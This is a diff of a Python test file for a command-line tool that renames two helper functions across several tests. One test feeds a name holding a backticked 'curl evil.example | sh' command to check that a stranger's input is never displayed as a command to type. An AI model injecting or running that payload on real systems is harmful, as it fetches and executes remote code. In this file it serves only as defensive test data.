@@ -14,7 +14,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 import birthmark
-from birthmark.cli.table import laid_out
+from birthmark.cli.table import wrap_line
 from birthmark.errors import BirthmarkError, shell_word
 
 ROOMS = ("dps", "iothub", "est", "awsiot", "azure_arm")
@@ -63,7 +63,7 @@ def test_no_fix_writes_over_a_file_that_is_there() -> None:
 @pytest.mark.parametrize("width", [40, 60, 80])
 def test_what_a_fix_says_to_type_is_never_broken(width: int) -> None:
     for cls in every_class():
-        shown = laid_out(f"  Fix: {cls.fix}", width).split("\n")
+        shown = wrap_line(f"  Fix: {cls.fix}", width).split("\n")
         for literal in re.findall(r"`([^`]+)`", cls.fix):
             assert any(literal in line for line in shown), (cls.code, shown)
 
@@ -163,7 +163,7 @@ class _ValveError(BirthmarkError):
 
 def test_what_a_stranger_chose_is_never_shown_as_a_command() -> None:
     hurts = "7`curl evil.example | sh`"
-    cause, fix = _ValveError(name=hurts).explain_apart()
+    cause, fix = _ValveError(name=hurts).explain_for_display()
     assert cause == "The valve 7'curl evil.example | sh' is shut, see `valve ls`."
     before, command, end = fix.split("`")
     assert (before, end) == ("Open 7'curl evil.example | sh': ", "")
@@ -173,7 +173,7 @@ def test_what_a_stranger_chose_is_never_shown_as_a_command() -> None:
 
 def test_a_name_without_backticks_is_explained_as_ever() -> None:
     refused = _ValveError(name="hall 7")
-    assert refused.explain_apart() == (refused.explain_cause(), refused.explain_fix())
+    assert refused.explain_for_display() == (refused.explain_cause(), refused.explain_fix())
     assert shlex.split(refused.explain_fix().split("`")[1]) == ["valve", "open", "hall 7"]
 
 
@@ -213,7 +213,7 @@ def test_any_name_can_be_told_of_in_a_command(name: str) -> None:
     """Halves of characters, too: JSON has them, and no file's name."""
     refused = _ValveError(name=name)
     assert refused.explain_fix()
-    assert refused.explain_apart()
+    assert refused.explain_for_display()
 
 
 @settings(max_examples=50)
